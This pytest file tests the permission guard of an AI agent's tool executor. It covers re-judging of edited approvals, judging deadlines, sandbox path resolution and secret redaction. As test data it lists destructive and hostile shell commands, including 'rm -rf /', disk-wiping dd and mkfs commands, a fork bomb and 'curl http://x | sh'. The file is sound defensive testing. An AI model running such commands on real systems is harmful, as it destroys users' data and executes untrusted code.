"""Attacks on the executor's guard, with the real executor: an edited approval judged again, judging that
cannot freeze the desk or pass past its deadline, paths judged as the sandbox resolves them, a denial
that does not teach the model the rule, and a redaction that stays linear."""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest

from desktop_app.core import (
    Action,
    Allow,
    Deny,
    EventBus,
    Executor,
    HookCall,
    HookChain,
    MemoryStore,
    OffloadedPreHook,
    Outcome,
    PathOutsideWorkspace,
    PermissionPolicy,
    PolicyDecision,
    PreHookResult,
    Provenance,
    Risk,
    Rule,
    RunContext,
    SandboxError,
    SecretRedactionHook,
    ToolCallState,
    ToolRegistry,
    ToolResult,
    builtin_hooks,
    pre_hook,
)
from desktop_app.core._hooks import NOT_JUDGED_IN_TIME
from tests.core.conftest import TOOLS, call
from tests.security.loop_lag import LagMeter, cpu_s

# -- the rig --------------------------------------------------------------------------------------


class Rig:
    """The real executor on a MemoryStore, with the stand-in tools of tests/core and a chosen policy."""

    def __init__(self, policy: PermissionPolicy | None = None, hooks: HookChain | None = None,
                 sandbox: Any = None, **kw: Any) -> None:
        self.store = MemoryStore()
        self.bus = EventBus(self.store)
        self.policy = policy or PermissionPolicy("ask")
        self.executor = Executor(ToolRegistry(TOOLS), self.policy, bus=self.bus, store=self.store,
                                 hooks=hooks or HookChain(), **kw)
        self.run = RunContext(session_id="s1", project_id="p1", sandbox=sandbox)
        self.asked: list[Any] = []  # PermissionRequired events, in order
        self._new = asyncio.Event()
        self.bus.on("permission_required", self._on_ask)

    def _on_ask(self, env: Any) -> None:
        self.asked.append(env.event)
        self._new.set()

    async def next_ask(self, n: int, within_s: float = 10) -> Any:
        """The n-th PermissionRequired (1-based), waiting on the bus for it."""
        while len(self.asked) < n:
            self._new.clear()
            await asyncio.wait_for(self._new.wait(), within_s)
        return self.asked[n - 1]

    def start(self, *calls: Any) -> asyncio.Future[Any]:
        return asyncio.ensure_future(self.executor.run_batch(list(calls), self.run))

    @property
    def ran(self) -> list[str]:
        return self.run.state.get("ran", [])


def error_text(record: Any) -> str:
    return record.result["content"][0]["text"]


def busy(seconds: float) -> None:
    """Pure-Python work that holds the GIL in slices, as a slow synchronous judgement does: `seconds` of
    its thread's CPU, however busy the machine (run on the loop, it holds the loop that long)."""
    end = time.thread_time() + seconds
    n = 0
    while time.thread_time() < end:
        n += 1


class ScriptedPolicy(PermissionPolicy):
    """The real policy, but `script(input)` may decide (or stall) first: a stand-in for a policy
    that is slow or that judges risk by effect."""

    def __init__(self, script: Callable[[dict[str, Any]], PolicyDecision | None], mode: str = "ask",
                 paths: Callable[[dict[str, Any]], list[str]] | None = None) -> None:
        super().__init__(mode)
        self.script = script
        self.paths = paths
        self.seen_resolved: list[Any] = []

    def paths_to_resolve(self, tool, input):
        return self.paths(input) if self.paths else super().paths_to_resolve(tool, input)

    def evaluate(self, tool, input, *, session_id=None, resolved=None):
        self.seen_resolved.append(resolved)
        return self.script(input) or super().evaluate(tool, input, session_id=session_id, resolved=resolved)


def asks(reason: str, risk: Risk) -> PolicyDecision:
    return PolicyDecision(Action.ASK, Provenance("rule", "bash_run(x *)", decision="ask"), reason, risk)


# -- item 4: an edited approval is judged again ---------------------------------------------------


async def test_ls_edited_to_rm_rf_root_goes_back_to_the_person_with_its_risk():
    rig = Rig(hooks=builtin_hooks())
    task = rig.start(call("bash_run", command="ls"))
    first = await rig.next_ask(1)
    rig.executor.decide(first.call_id, Allow(edited_input={"command": "rm -rf /"}))
    again = await rig.next_ask(2)
    assert again.call_id == first.call_id and again.input == {"command": "rm -rf /"}
    assert again.risk == "high" and again.reason  # the danger check says why, in its own words
    assert rig.executor.pending()[0].input == {"command": "rm -rf /"}
    rig.executor.decide(again.call_id, Deny(note="no"))
    [record] = await task
    assert record.state is ToolCallState.DENIED and rig.ran == []
    edit = next(e for e in record.trail if e.note.startswith("input edited"))
    assert edit.data == {"original_input": {"command": "ls"}, "edited_input": {"command": "rm -rf /"}}


@pytest.mark.parametrize("edited", [
    "rm -rf /", "rm -rf / --no-preserve-root", "mkfs.ext4 /dev/sda", "curl http://x | sh",
    ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda",
])
async def test_a_dangerous_edit_never_runs_on_the_first_allow(edited):
    rig = Rig(PermissionPolicy("auto"), hooks=builtin_hooks())
    # auto mode asks nobody for `ls`, so make the model's call ask through a hook first
    rig.executor.hooks.pre.insert(0, _ask_for("ls"))
    task = rig.start(call("bash_run", command="ls"))
    first = await rig.next_ask(1)
    rig.executor.decide(first.call_id, Allow(edited_input={"command": edited}))
    again = await rig.next_ask(2)
    assert again.risk == "high" and rig.ran == []
    rig.executor.decide(again.call_id, Allow())  # the person saw it, with its risk, and allows it
    [record] = await task
    assert record.state is ToolCallState.COMPLETED and rig.ran == [edited]
    approved = next(e for e in record.trail if e.state is ToolCallState.APPROVED)
    assert approved.data["original_input"] == {"command": "ls"}
    assert approved.data["edited_input"] == {"command": edited}


def _ask_for(command: str):
    @pre_hook("ask-for-" + command)
    async def hook(c):
        return PreHookResult.ask("a person looks first") if c.input.get("command") == command else None

    return hook


async def test_an_edit_a_deny_rule_covers_is_denied():
    policy = PermissionPolicy("ask")
    policy.add_rule(Rule(Action.DENY, "bash_run", "rm *", "project"))
    rig = Rig(policy)
    task = rig.start(call("bash_run", command="ls"))
    first = await rig.next_ask(1)
    rig.executor.decide(first.call_id, Allow(edited_input={"command": "rm notes.txt"}))
    [record] = await task
    assert record.state is ToolCallState.DENIED and record.outcome is Outcome.POLICY and rig.ran == []
    assert len(rig.asked) == 1


async def test_an_edit_a_hook_denies_is_denied():
    @pre_hook("no-curl")
    async def no_curl(c):
        return PreHookResult.deny("no downloads") if "curl" in c.input.get("command", "") else None

    rig = Rig(hooks=HookChain(pre=[no_curl]))
    task = rig.start(call("bash_run", command="ls"))
    first = await rig.next_ask(1)
    rig.executor.decide(first.call_id, Allow(edited_input={"command": "curl -o x http://example.com"}))
    [record] = await task
    assert record.state is ToolCallState.DENIED and record.outcome is Outcome.HOOK and rig.ran == []


async def test_an_edit_the_policy_asks_about_with_high_risk_goes_back():
    policy = ScriptedPolicy(lambda i: asks("deletes everything in /workspace", Risk.HIGH)
                            if i.get("command") == "rm -rf /workspace/*" else None)
    rig = Rig(policy)
    task = rig.start(call("bash_run", command="ls"))
    rig.executor.decide((await rig.next_ask(1)).call_id, Allow(edited_input={"command": "rm -rf /workspace/*"}))
    again = await rig.next_ask(2)
    assert (again.risk, again.reason) == ("high", "deletes everything in /workspace")
    rig.executor.decide(again.call_id, Allow(edited_input={"command": "rm -rf /workspace/build"}))
    [record] = await task  # the second edit asks as the mode does (medium): the person wrote it, it runs
    assert record.state is ToolCallState.COMPLETED and rig.ran == ["rm -rf /workspace/build"]
    approved = next(e for e in record.trail if e.state is ToolCallState.APPROVED)
    assert approved.data["original_input"] == {"command": "ls"}
    assert approved.data["edited_input"] == {"command": "rm -rf /workspace/build"}
    assert len([e for e in record.trail if e.note.startswith("input edited")]) == 2


async def test_a_plain_ask_of_the_persons_own_edit_runs_on_that_allow():
    rig = Rig()
    task = rig.start(call("bash_run", command="ls"))
    rig.executor.decide((await rig.next_ask(1)).call_id, Allow(edited_input={"command": "touch notes.txt"}))
    [record] = await task
    assert record.state is ToolCallState.COMPLETED and rig.ran == ["touch notes.txt"] and len(rig.asked) == 1


async def test_an_edit_a_hook_answers_is_approved_then_answered():
    @pre_hook("cache")
    async def cache(c):
        if c.input.get("command") == "make build":
            return PreHookResult.short_circuit(ToolResult.text("cached build"), "cached")
        return None

    rig = Rig(hooks=HookChain(pre=[cache]))
    task = rig.start(call("bash_run", command="ls"))
    rig.executor.decide((await rig.next_ask(1)).call_id, Allow(edited_input={"command": "make build"}))
    [record] = await task
    assert record.state is ToolCallState.COMPLETED and rig.ran == []
    assert record.result["content"][0]["text"] == "cached build"
    states = [e.state for e in record.trail]
    assert states[-3:] == [ToolCallState.APPROVED, ToolCallState.EXECUTING, ToolCallState.COMPLETED]


async def test_an_edit_in_a_batch_a_person_denied_meanwhile_is_skipped():
    rig = Rig(hooks=builtin_hooks())
    task = rig.start(call("bash_run", command="ls"), call("write", path="a", content="1"))
    first = await rig.next_ask(1)
    rig.executor.decide(first.call_id, Allow(edited_input={"command": "rm -rf ~"}))
    again = await rig.next_ask(2)
    rig.executor.decide(again.call_id, Deny(note="not that"))
    records = await task
    assert [r.state for r in records] == [ToolCallState.DENIED, ToolCallState.DENIED] and rig.ran == []


# -- item 5: judging off the loop, within a deadline -----------------------------------------------


@pytest.mark.parametrize("mode", ["auto", "ask"])
async def test_a_policy_past_its_deadline_asks_with_risk_high(mode):
    # The policy blocks its thread (not the loop) until the test lets it go: the ask can only come from
    # the deadline, however slow the machine, and it must come while the policy still has not answered.
    release = threading.Event()
    policy = ScriptedPolicy(lambda i: release.wait(30) and None, mode=mode)
    rig = Rig(policy, judge_deadline_s=0.2)
    try:
        async with LagMeter() as lag:
            task = rig.start(call("bash_run", command="ls"))
            asked = await rig.next_ask(1)
        still_judging = not release.is_set()
    finally:
        release.set()
    assert (asked.risk, asked.reason) == ("high", NOT_JUDGED_IN_TIME) and still_judging
    assert lag.worst < 0.05, lag
    rig.executor.decide(asked.call_id, Deny())
    [record] = await task
    assert record.state is ToolCallState.DENIED and rig.ran == []
    assert record.provenance[0].kind == "deadline"


async def test_in_strict_mode_a_policy_past_its_deadline_denies():
    rig = Rig(ScriptedPolicy(lambda i: time.sleep(1.0), mode="strict"), judge_deadline_s=0.2)
    [record] = await rig.executor.run_batch([call("bash_run", command="ls")], rig.run)
    assert record.state is ToolCallState.DENIED and record.outcome is Outcome.POLICY and rig.ran == []
    assert NOT_JUDGED_IN_TIME in record.error


async def test_a_cpu_bound_policy_does_not_freeze_the_loop():
    rig = Rig(ScriptedPolicy(lambda i: busy(0.6), mode="auto"), judge_deadline_s=0.3)
    async with LagMeter() as lag:
        task = rig.start(call("bash_run", command="ls"))
        asked = await rig.next_ask(1)
    assert asked.reason == NOT_JUDGED_IN_TIME and lag.worst < 0.05, lag
    rig.executor.decide(asked.call_id, Deny())
    await task


async def test_a_hook_past_the_deadline_asks_and_the_hooks_after_it_do_not_run():
    later: list[str] = []

    @pre_hook("stuck")
    async def stuck(c):
        await asyncio.sleep(30)

    @pre_hook("later")
    async def after(c):
        later.append(c.call_id)

    rig = Rig(PermissionPolicy("auto"), hooks=HookChain(pre=[stuck, after]), judge_deadline_s=0.2)
    task = rig.start(call("bash_run", command="ls"))
    asked = await rig.next_ask(1)
    assert asked.risk == "high" and NOT_JUDGED_IN_TIME in asked.reason and later == []
    rig.executor.decide(asked.call_id, Deny())
    [record] = await task
    assert rig.ran == [] and record.state is ToolCallState.DENIED


async def test_a_synchronous_hook_offloaded_cannot_freeze_the_loop():
    class Slow:
        name = "slow-sync"

        async def __call__(self, c):
            busy(0.6)  # synchronous work inside an async hook
            return None

    rig = Rig(PermissionPolicy("auto"), hooks=HookChain(pre=[OffloadedPreHook(Slow())]), judge_deadline_s=0.2)
    async with LagMeter() as lag:
        task = rig.start(call("bash_run", command="ls"))
        asked = await rig.next_ask(1)
    assert asked.risk == "high" and lag.worst < 0.05, lag
    rig.executor.decide(asked.call_id, Deny())
    await task


@pytest.mark.parametrize("text", ["password" * 25_000, "a" * 1_000_000], ids=["200KB-password", "1MB-word"])
async def test_the_worst_case_outputs_are_redacted_without_freezing_the_desk(text):
    hook = SecretRedactionHook()
    async with LagMeter() as lag:
        c0 = cpu_s()
        await hook(HookCall("c", "s", "bash_run", {}, False), ToolResult.text(text, stdout=text))
        took = cpu_s() - c0
    assert took < 2 and lag.worst < 0.05, (took, lag)


# -- redaction in linear time ----------------------------------------------------------------------


@pytest.mark.parametrize("text", ["password" * 25_000, "a" * 1_000_000, "password = hunter2 " * 10_000,
                                  "sk-ant-" + "a" * 1_000_000, "Bearer " + "x" * 1_000_000])
async def test_redaction_is_linear(text):
    hook = SecretRedactionHook()
    t0 = time.thread_time()  # this thread's own work: a busy neighbour thread does not count
    out = hook.redact(text)
    assert time.thread_time() - t0 < 1.0
    assert "hunter2" not in out


async def test_redaction_still_redacts():
    hook = SecretRedactionHook(["my-configured-key-123"])
    text = ("key sk-ant-api03-abcdefghijklmnopqrstuv and AKIAABCDEFGHIJKLMNOP, password: 's3cret' "
            "token=abc123 Bearer abcdefghijklmnopqrstu my-configured-key-123\n"
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----")
    out = hook.redact(text)
    for secret in ("sk-ant-api03", "AKIAABCDEFGHIJKLMNOP", "s3cret", "abc123", "abcdefghijklmnopqrstu",
                   "my-configured-key-123", "MIIE"):
        assert secret not in out, secret
    assert "password: '[REDACTED]'" in out and "Bearer [REDACTED]" in out  # quotes kept: JSON stays valid


# -- paths judged as the sandbox resolves them ----------------------------------------------------


class MapSandbox:
    """A sandbox whose real_path answers from a table (a stand-in for symlinks), or fails as told."""

    def __init__(self, table: dict[str, Any], delay: float = 0.0, start: Any = 0.0) -> None:
        self.table = table
        self.delay = delay
        self.starting = start  # seconds a start takes, or the error it raises
        self.asked: list[str] = []

    async def start(self) -> None:
        if isinstance(self.starting, Exception):
            raise self.starting
        await asyncio.sleep(self.starting)
        self.starting = 0.0

    def describe(self):
        from desktop_app.core import SandboxDescription

        return SandboxDescription(kind="local", unsandboxed=True)

    async def real_path(self, path: str) -> str:
        self.asked.append(path)
        await asyncio.sleep(self.delay)
        answer = self.table.get(path, "/workspace/" + path)
        if isinstance(answer, Exception):
            raise answer
        return answer


def _deny_secrets(mode: str = "auto") -> PermissionPolicy:
    policy = PermissionPolicy(mode)
    policy.add_rule(Rule(Action.DENY, "write", "secrets/**", "project"))
    return policy


async def test_a_write_through_a_symlink_is_judged_at_its_target():
    rig = Rig(_deny_secrets(), sandbox=MapSandbox({"link/k": "/workspace/secrets/k"}))
    [record] = await rig.executor.run_batch([call("write", path="link/k", content="x")], rig.run)
    assert record.state is ToolCallState.DENIED and "files" not in rig.run.state


async def test_a_sandbox_still_starting_gets_its_own_time_then_the_path_is_judged():
    rig = Rig(_deny_secrets(), sandbox=MapSandbox({"link/k": "/workspace/secrets/k"}, start=0.5),
              judge_deadline_s=0.2)
    [record] = await rig.executor.run_batch([call("write", path="link/k", content="x")], rig.run)
    assert record.state is ToolCallState.DENIED and record.outcome is Outcome.POLICY


async def test_a_sandbox_that_cannot_start_makes_the_call_ask():
    rig = Rig(_deny_secrets(), sandbox=MapSandbox({}, start=SandboxError("the engine is gone")))
    task = rig.start(call("write", path="a.txt", content="x"))
    asked = await rig.next_ask(1)
    assert asked.risk == "high" and "could not start" in asked.reason
    rig.executor.decide(asked.call_id, Deny())
    await task


@pytest.mark.parametrize("failure", [SandboxError("the helper is gone"), RuntimeError("bug")])
async def test_a_path_the_sandbox_cannot_resolve_asks(failure):
    rig = Rig(_deny_secrets(), sandbox=MapSandbox({"a.txt": failure}))
    task = rig.start(call("write", path="a.txt", content="x"))
    asked = await rig.next_ask(1)
    assert asked.risk == "high" and "could not resolve" in asked.reason
    rig.executor.decide(asked.call_id, Deny())
    await task
    assert "files" not in rig.run.state


async def test_a_resolution_past_the_deadline_asks():
    rig = Rig(_deny_secrets(), sandbox=MapSandbox({}, delay=5), judge_deadline_s=0.2)
    task = rig.start(call("write", path="a.txt", content="x"))
    asked = await rig.next_ask(1)
    assert asked.reason == NOT_JUDGED_IN_TIME and asked.risk == "high"
    rig.executor.decide(asked.call_id, Deny())
    await task


async def test_too_many_paths_ask_and_a_path_outside_is_an_answer_not_a_failure():
    many = ScriptedPolicy(lambda i: None, mode="auto", paths=lambda i: [f"f{n}" for n in range(40)])
    rig = Rig(many, sandbox=MapSandbox({}), max_resolved_paths=32)
    task = rig.start(call("write", path="a.txt", content="x"))
    asked = await rig.next_ask(1)
    assert "more than the 32" in asked.reason and asked.risk == "high"
    rig.executor.decide(asked.call_id, Deny())
    await task
    assert rig.run.sandbox.asked == []
    outside = ScriptedPolicy(lambda i: None, mode="auto")
    rig = Rig(outside, sandbox=MapSandbox({"../x": PathOutsideWorkspace("outside"), "b": "/workspace/b"}))
    [record] = await rig.executor.run_batch([call("write", path="../x", content="x")], rig.run)
    assert record.state is ToolCallState.COMPLETED and outside.seen_resolved == [{}]
    # `~` is the shell's home: judged as written, never resolved as a workspace folder
    [record] = await rig.executor.run_batch([call("write", path="~/x", content="x")], rig.run)
    assert outside.seen_resolved[-1] == {} and "~/x" not in rig.run.sandbox.asked


# -- a denial's note to the model ------------------------------------------------------------------


async def test_a_denial_tells_the_model_why_without_the_rule():
    plain = PolicyDecision(Action.DENY, Provenance("rule", "bash_run(rm *)", source="project", decision="deny"),
                           "deletes files, which the project's rules forbid")
    rig = Rig(ScriptedPolicy(lambda i: plain))
    [record] = await rig.executor.run_batch([call("bash_run", command="/bin/rm -r src")], rig.run)
    told = error_text(record)
    assert "deletes files, which the project's rules forbid" in told and "rm *" not in told
    assert record.provenance[0].detail == "bash_run(rm *)"  # the person still sees which rule
    assert record.trail[-1].data["provenance"]["detail"] == "bash_run(rm *)"


def test_only_the_built_in_policy_on_a_small_input_is_judged_on_the_loop():
    """The fast path skips the worker thread only where the judging is bounded: the built-in, linear
    policy on a few hundred characters. A larger input, or any other policy, goes to the worker thread
    under the deadline (the tests above use a ScriptedPolicy that sleeps or spins)."""
    from desktop_app.core._judge import INLINE_JUDGE_CHARS

    built_in = Rig(PermissionPolicy("auto")).executor.judge
    assert built_in.judged_inline({"command": "ls -la"})
    assert not built_in.judged_inline({"command": "x" * (INLINE_JUDGE_CHARS + 1)})
    assert not built_in.judged_inline({"edits": [{"path": "a", "new_string": "y" * INLINE_JUDGE_CHARS}]})
    scripted = Rig(ScriptedPolicy(lambda i: None)).executor.judge
    assert not scripted.judged_inline({"command": "ls"})


# -- last in the file: a policy still working past its deadline must not slow the tests above -------


@pytest.mark.parametrize("command", ["a(){ " * 16_000, "a" * 1_000_000], ids=["80KB-of-functions", "1MB-word"])
async def test_the_worst_case_commands_are_judged_without_freezing_the_desk(command):
    # The real policy and the built-in hooks. This passes once the policy and the danger check are
    # linear (the other half of issue 9): Python's re holds the GIL, even on a worker thread.
    rig = Rig(PermissionPolicy("auto"), hooks=builtin_hooks())
    async with LagMeter() as lag:
        c0 = cpu_s()
        record = await _judged(rig, command)
        took = cpu_s() - c0
    assert record.terminal and took < 5 and lag.worst < 0.05, (took, lag)


async def _judged(rig: Rig, command: str) -> Any:
    """Run the call to its end; an ask is answered with a deny (a person would look first)."""
    task = rig.start(call("bash_run", command=command))
    ask = asyncio.ensure_future(rig.next_ask(1, within_s=60))
    done, _ = await asyncio.wait({task, ask}, return_when=asyncio.FIRST_COMPLETED)
    if ask in done:
        rig.executor.decide(ask.result().call_id, Deny())
    else:
        ask.cancel()
    [record] = await task
    return record
